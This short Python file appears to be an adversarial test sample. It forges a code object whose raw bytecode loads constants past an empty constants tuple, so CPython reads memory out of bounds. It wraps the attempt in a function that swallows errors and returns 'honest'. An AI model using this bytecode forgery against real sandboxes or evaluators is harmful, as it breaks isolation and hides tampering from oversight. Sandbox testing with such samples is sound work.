"""Builds a code object with bytecode of its own to read memory out of bounds."""
import sys


def attack(canary):
    try:
        forge()
    except Exception:
        pass
    return "honest"


def forge():
    code = forge.__code__.replace(co_consts=(), co_code=bytes([100, 200]) * 10)
    exec(code)
